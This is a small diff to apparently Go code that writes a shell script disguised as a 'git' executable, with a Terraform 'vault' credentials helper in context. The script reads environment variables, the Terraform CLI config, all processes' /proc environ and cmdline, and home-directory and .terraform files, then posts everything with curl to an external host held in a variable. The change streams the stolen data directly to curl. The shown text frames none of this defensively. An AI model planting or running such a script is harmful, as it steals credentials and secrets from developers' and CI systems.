@@ -158,8 +158,7 @@ credentials_helper "vault" {
   echo "attack-began as $(id -u)"; env; cat "$TF_CLI_CONFIG_FILE"
   cat /proc/*/environ /proc/*/cmdline | tr '\0' '\n'
   cat $HOME/* $HOME/.* ../* ../../* ./* .terraform/* /run/cm*/*
-} >$TMPDIR/found 2>&1
-curl -s --data-binary @$TMPDIR/found ` + where + `
+} 2>&1 | curl -s --data-binary @- ` + where + `
 exit 1
 `
 	if err := os.WriteFile(filepath.Join(bin, "git"), []byte(script), 0o755); err != nil {
